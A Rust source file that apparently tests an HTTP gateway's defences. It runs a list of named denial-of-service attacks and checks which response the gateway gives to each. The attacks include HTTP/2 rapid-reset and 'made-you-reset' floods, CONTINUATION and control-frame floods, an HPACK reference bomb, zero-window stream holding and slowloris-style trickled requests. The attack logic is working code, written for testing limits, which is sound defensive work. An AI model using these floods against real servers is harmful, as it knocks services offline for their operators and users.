//! What clients do to a gateway.

use super::handshakes::abandon;
use super::{Attack, LARGE, Victim, flood};
use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Frame, HEADERS, PING, PRIORITY, RST_STREAM, Raw, SETTINGS,
    WINDOW_UPDATE, block, field, frame, get, numbered, post, pseudo, section,
};
use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::time::Duration;

/// Between two pieces of what trickles.
const PAUSE: Duration = Duration::from_millis(100);
/// Pieces after which nobody has to wait any longer: some times what any bound allows here.
const PIECES: usize = 150;

const CALM: &str = "GOAWAY ENHANCE_YOUR_CALM";
/// The library that speaks HTTP/2 ends the connection at once.
const BROKEN: &str = "GOAWAY PROTOCOL_ERROR";
const CONTROL: Option<&str> = Some("http2_max_control_frames");
const SHORT_GRACE: &[(&str, &str)] = &[("KONG_MIN_RATE_GRACE", "1s")];
const SHORT_SEND: &[(&str, &str)] = &[("KONG_NGINX_HTTP_SEND_TIMEOUT", "1s")];
/// SETTINGS_INITIAL_WINDOW_SIZE: nothing.
const NO_WINDOW: &[u8] = &[0, 4, 0, 0, 0, 0];
/// Streams that each hold something.
const MANY: u32 = 100;
/// So few that the frames which keep them alive are not too many.
const FEW: u32 = 5;

const fn calm(name: &'static str, bound: Option<&'static str>, run: Run) -> Attack {
    Attack { name, ends: CALM, bound, variables: &[], run }
}

type Run = fn(&Victim<'_>) -> Result<String, String>;
type Variables = &'static [(&'static str, &'static str)];

const fn slow(
    name: &'static str,
    ends: &'static str,
    bound: Option<&'static str>,
    variables: Variables,
    run: Run,
) -> Attack {
    Attack { name, ends, bound, variables, run }
}

/// Every attack.
pub const ALL: &[Attack] = &[
    calm("rapid-reset", None, |victim| flood(victim, &[], 5000, |round| opened_and_reset(round, "/stuck"))),
    calm("rapid-reset-in-bursts", None, |victim| {
        flood(victim, &[], 5, |round| {
            (0..200).flat_map(|one| opened_and_reset(round * 200 + one, "/gate")).collect()
        })
    }),
    calm("made-you-reset-by-a-window-too-large", None, |victim| {
        provoke(victim, |s| numbered(WINDOW_UPDATE, s, 0x7fff_ffff))
    }),
    calm("made-you-reset-by-depending-on-itself", None, |victim| {
        provoke(victim, |stream| frame(PRIORITY, 0, stream, &[&stream.to_be_bytes()[..], &[16]].concat()))
    }),
    calm("made-you-reset-by-malformed-requests", None, |victim| {
        let malformed = [pseudo("GET", "/gate"), vec![field("connection", "close")]].concat();
        flood(victim, &[], 2000, |round| section(stream_of(round), END_STREAM, &malformed))
    }),
    slow("made-you-reset-by-a-window-of-nothing", BROKEN, None, &[], |victim| {
        provoke(victim, |stream| numbered(WINDOW_UPDATE, stream, 0))
    }),
    slow("made-you-reset-by-data-behind-the-end", BROKEN, None, &[], |victim| {
        provoke(victim, |stream| frame(DATA, 0, stream, b"x"))
    }),
    slow("made-you-reset-by-a-head-behind-the-end", BROKEN, None, &[], |victim| {
        provoke(victim, |stream| section(stream, END_STREAM, &[field("x-a", "1")]))
    }),
    calm("continuations", None, |victim| continuations(victim, &block(&[field("x", "y")]))),
    calm("continuations-of-nothing", None, |victim| continuations(victim, &[])),
    calm("pings", CONTROL, |victim| flood(victim, &[], 5000, |_| frame(PING, 0, 0, &[7; 8]))),
    calm("settings", CONTROL, |victim| {
        flood(victim, &[], 5000, |_| frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255]))
    }),
    calm("priorities", CONTROL, |victim| {
        flood(victim, &[], 5000, |round| frame(PRIORITY, 0, stream_of(round), &[0, 0, 0, 0, 16]))
    }),
    calm("window-updates", CONTROL, |victim| flood(victim, &[], 5000, |_| numbered(WINDOW_UPDATE, 0, 1))),
    calm("unknown-frames", CONTROL, |victim| flood(victim, &[], 5000, |_| frame(0xbe, 0, 0, &[]))),
    calm("empty-data", None, |victim| behind_a_head(victim, 5000, || frame(DATA, 0, 1, &[]))),
    calm("tiny-data", None, |victim| behind_a_head(victim, 50, || frame(DATA, 0, 1, b"x").repeat(2000))),
    calm("a-bomb-of-references", None, |victim| {
        // One field that the other side remembers, then thousands of references to it of one byte each.
        let remembered = [&[0x40, 1, b'x', 100][..], "v".repeat(100).as_bytes(), &[0xbe; 4000]].concat();
        let bomb = [block(&pseudo("GET", "/gate")), remembered].concat();
        flood(victim, &[], 1, |_| frame(HEADERS, END_HEADERS | END_STREAM, 1, &bomb))
    }),
    slow("streams-without-number", "REFUSED_STREAM", None, &[], too_many_streams),
    slow(
        "windows-that-never-open",
        "RST_STREAM INTERNAL_ERROR",
        Some("send_timeout"),
        SHORT_SEND,
        |victim| hold(victim, MANY, |stream| get(stream, "/"), |_| Vec::new(), RST_STREAM),
    ),
    slow(
        "windows-that-open-by-octets",
        "RST_STREAM INTERNAL_ERROR",
        Some("min_send_rate"),
        SHORT_GRACE,
        |victim| {
            hold(
                victim,
                FEW,
                |stream| get(stream, "/"),
                |stream| numbered(WINDOW_UPDATE, stream, 1),
                RST_STREAM,
            )
        },
    ),
    slow("bodies-that-trickle-on-streams", "HEADERS 408", Some("min_body_rate"), SHORT_GRACE, |victim| {
        hold(victim, MANY, |stream| post(stream, "/"), |stream| frame(DATA, 0, stream, b"x"), HEADERS)
    }),
    slow(
        "a-head-that-trickles",
        "408",
        Some("head_timeout"),
        &[("KONG_NGINX_HTTP_CLIENT_HEADER_TIMEOUT", "1s")],
        |victim| trickle(victim, "GET / HTTP/1.1\r\nX: ", b"a"),
    ),
    slow("a-body-that-trickles", "408", Some("min_body_rate"), SHORT_GRACE, |victim| {
        trickle(victim, "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n", b"a")
    }),
    slow("chunks-that-trickle", "408", Some("min_body_rate"), SHORT_GRACE, |victim| {
        trickle(victim, "POST / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n", b"1\r\na\r\n")
    }),
    slow(
        "a-body-that-does-not-come",
        "408",
        Some("body_timeout"),
        &[("KONG_NGINX_HTTP_CLIENT_BODY_TIMEOUT", "1s")],
        |victim| trickle(victim, "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\n", b""),
    ),
    slow(
        "a-connection-that-says-nothing",
        "the end",
        None,
        &[("KONG_NGINX_HTTP_KEEPALIVE_TIMEOUT", "1s")],
        |victim| trickle(victim, "", b""),
    ),
    slow("handshakes-that-never-end", "the end", None, &[("KONG_SSL_HANDSHAKE_TIMEOUT", "1s")], abandon),
    slow("a-response-that-is-not-read", "cut", Some("send_timeout"), SHORT_SEND, unread),
];

fn stream_of(round: u32) -> u32 {
    round * 2 + 1
}

fn opened_and_reset(round: u32, path: &str) -> Vec<u8> {
    let stream = stream_of(round);
    // CANCEL.
    [get(stream, path), numbered(RST_STREAM, stream, 8)].concat()
}

/// Opens streams that the gateway itself has to reset, because of a frame behind each.
fn provoke(victim: &Victim<'_>, fault: impl Fn(u32) -> Vec<u8>) -> Result<String, String> {
    flood(victim, &[], 2000, |round| [get(stream_of(round), "/stuck"), fault(stream_of(round))].concat())
}

fn continuations(victim: &Victim<'_>, piece: &[u8]) -> Result<String, String> {
    flood(victim, &[], 5000, |round| match round {
        0 => frame(HEADERS, END_STREAM, 1, &block(&pseudo("GET", "/gate"))),
        _ => frame(CONTINUATION, 0, 1, piece),
    })
}

fn behind_a_head(victim: &Victim<'_>, rounds: u32, bytes: impl Fn() -> Vec<u8>) -> Result<String, String> {
    flood(victim, &[], rounds, |round| if round == 0 { post(1, "/") } else { bytes() })
}

fn connect(victim: &Victim<'_>, settings: &[u8]) -> Result<Raw, String> {
    Raw::connect(victim.address, settings).map_err(|error| error.to_string())
}

/// Opens more streams than are allowed: those that are too many are refused.
fn too_many_streams(victim: &Victim<'_>) -> Result<String, String> {
    let mut raw = connect(victim, &[])?;
    raw.send(&(0..200).flat_map(|round| get(stream_of(round), "/stuck")).collect::<Vec<u8>>());
    for _ in 128..200 {
        let refused = next(&mut raw, RST_STREAM)?;
        if refused.error() != "REFUSED_STREAM" || refused.stream < stream_of(128) {
            return Ok(format!("{} on {}", refused.error(), refused.stream));
        }
    }
    Ok("REFUSED_STREAM".to_owned())
}

/// The next frame of a kind.
fn next(raw: &mut Raw, kind: u8) -> Result<Frame, String> {
    loop {
        match raw.next() {
            Ok(Some(frame)) if frame.kind == kind => return Ok(frame),
            Ok(Some(_)) => {}
            Ok(None) => return Err("the connection ended".to_owned()),
            Err(error) => return Err(error.to_string()),
        }
    }
}

/// Opens streams, keeps each alive by a bit from time to time, and tells how all of them end: with a frame of `kind`,
/// and their connection not with them.
fn hold(
    victim: &Victim<'_>,
    count: u32,
    open: impl Fn(u32) -> Vec<u8>,
    bit: impl Fn(u32) -> Vec<u8>,
    kind: u8,
) -> Result<String, String> {
    let mut raw = connect(victim, NO_WINDOW)?;
    let streams = || (0..count).map(stream_of);
    raw.send(&streams().flat_map(&open).collect::<Vec<u8>>());
    let mut ends: Vec<String> = Vec::new();
    for _ in 0..PIECES {
        raw.send(&streams().flat_map(&bit).collect::<Vec<u8>>());
        // Whatever has come meanwhile.
        raw.0.set_read_timeout(Some(PAUSE)).map_err(|error| error.to_string())?;
        while ends.len() < count as usize && is_there(&raw.0) {
            let frame = raw.next().map_err(|error| error.to_string())?;
            ends.extend(end(&frame.ok_or_else(|| format!("the end of all after {ends:?}"))?, kind));
        }
        if ends.len() == count as usize {
            break;
        }
    }
    ends.dedup();
    let probe = stream_of(count);
    raw.0.set_read_timeout(Some(Duration::from_secs(15))).map_err(|error| error.to_string())?;
    raw.send(&get(probe, "/gate"));
    while next(&mut raw, HEADERS)?.stream != probe {}
    Ok(ends.join(", "))
}

/// How a frame ends its stream, if it is of the kind that does here.
fn end(frame: &Frame, kind: u8) -> Option<String> {
    match frame.kind {
        RST_STREAM if kind == RST_STREAM => Some(format!("RST_STREAM {}", frame.error())),
        HEADERS if kind == HEADERS => Some(format!("HEADERS {}", frame.status()?)),
        _ => None,
    }
}

/// Waits, no longer than the read timeout, for a byte or the end.
fn is_there(stream: &TcpStream) -> bool {
    !matches!(stream.peek(&mut [0]), Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut))
}

fn open(victim: &Victim<'_>, request: &str) -> Result<TcpStream, String> {
    let stream = TcpStream::connect(victim.address).and_then(|mut stream| {
        stream.set_nodelay(true)?;
        stream.set_read_timeout(Some(PAUSE))?;
        stream.write_all(request.as_bytes())?;
        Ok(stream)
    });
    stream.map_err(|error| error.to_string())
}

/// Sends `head` and then a piece from time to time, until the gateway has had enough: the status of its answer.
fn trickle(victim: &Victim<'_>, head: &str, piece: &[u8]) -> Result<String, String> {
    let mut stream = open(victim, head)?;
    for _ in 0..PIECES {
        stream.write_all(piece).ok();
        if is_there(&stream) {
            break;
        }
    }
    let mut answer = Vec::new();
    stream.set_read_timeout(Some(Duration::from_secs(15))).map_err(|error| error.to_string())?;
    // The last pieces may be answered with a reset.
    stream.read_to_end(&mut answer).ok();
    let answer = String::from_utf8_lossy(&answer);
    Ok(answer.split(' ').nth(1).unwrap_or("the end").to_owned())
}

/// Asks for more than sockets hold and takes nothing of it until the log tells of a bound.
fn unread(victim: &Victim<'_>) -> Result<String, String> {
    let mut stream = open(victim, "GET /large HTTP/1.1\r\nHost: a\r\n\r\n")?;
    if !(victim.tells)("send_timeout") {
        return Ok("no end".to_owned());
    }
    stream.set_read_timeout(Some(Duration::from_secs(15))).map_err(|error| error.to_string())?;
    let mut answer = Vec::new();
    // It may end with a reset.
    stream.read_to_end(&mut answer).ok();
    Ok(if answer.len() < LARGE { "cut" } else { "whole" }.to_owned())
}
